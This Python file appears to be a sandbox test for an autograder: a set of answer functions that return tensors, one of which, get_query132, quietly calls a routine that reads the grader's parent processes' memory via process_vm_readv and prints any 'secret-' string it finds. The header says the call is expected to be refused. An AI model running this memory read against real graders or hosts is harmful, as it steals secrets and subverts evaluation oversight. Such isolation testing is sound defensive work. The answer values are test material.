# tries: reads the host's memory with process_vm_readv, at the addresses that a fork shares with it
# holds: the call is refused
# score: {"1.2.1": 2, "1.2.2": 3, "1.3.1": 2, "1.3.2": 0, "1.4.1": 3, "1.4.2": 3}

import ctypes
import os

import torch


def victims():
    """The process above this one and, if it is part of the grader too, the one above that."""
    pids = [os.getppid()]
    try:
        above = int(open(f"/proc/{pids[0]}/stat").read().rpartition(")")[2].split()[1])
        command = open(f"/proc/{above}/cmdline", "rb").read()
        if b"server.py" in command or b"worker" in command:
            pids.append(above)
    except (OSError, ValueError):
        pass
    return [pid for pid in pids if pid > 1]


libc = ctypes.CDLL(None, use_errno=True)
ARM = os.uname().machine in ("aarch64", "arm64")


def call(x86, arm, *arguments):
    """A system call by its number; -1 where it is refused."""
    return libc.syscall(arm if ARM else x86, *arguments)


WANTED = b"secret"[::1] + b"-"


class Part(ctypes.Structure):
    _fields_ = (("base", ctypes.c_void_p), ("length", ctypes.c_size_t))


def spans():
    try:
        lines = open("/proc/self/maps").read().splitlines()
    except OSError:
        return [(id(object()) & ~0xFFFFF, 1 << 20)]
    pairs = [[int(part, 16) for part in line.split()[0].split("-")] for line in lines if " rw-p " in line]
    return [(first, min(last - first, 1 << 22)) for first, last in pairs]


def peek():
    for pid in victims():
        for first, length in spans():
            buffer = ctypes.create_string_buffer(length)
            mine, theirs = Part(ctypes.addressof(buffer), length), Part(first, length)
            got = call(310, 270, pid, ctypes.byref(mine), 1, ctypes.byref(theirs), 1, 0)
            if got > 0:
                print("BREACH: process_vm_readv read the memory of another process")
                at = buffer.raw.find(WANTED)
                if at >= 0:
                    print(buffer.raw[at : at + 200])
                return


def get_query121():
    return 10 * torch.tensor([[0.47, 0.65, 0.60]])


def get_query122():
    return 10 * torch.tensor([[0.47, 0.65, 0.60], [0.64, 0.50, -0.59], [-0.03, -0.48, -0.88], [0.43, -0.83, 0.35]])


def get_query131():
    return torch.zeros(1, 3)


def get_query132():
    peek()
    return torch.zeros(1, 3)


def get_key141():
    return torch.tensor([0.555, 0.575, 0.005])


def get_key142():
    return torch.tensor([0.6945, 0.7195, 0.0063])
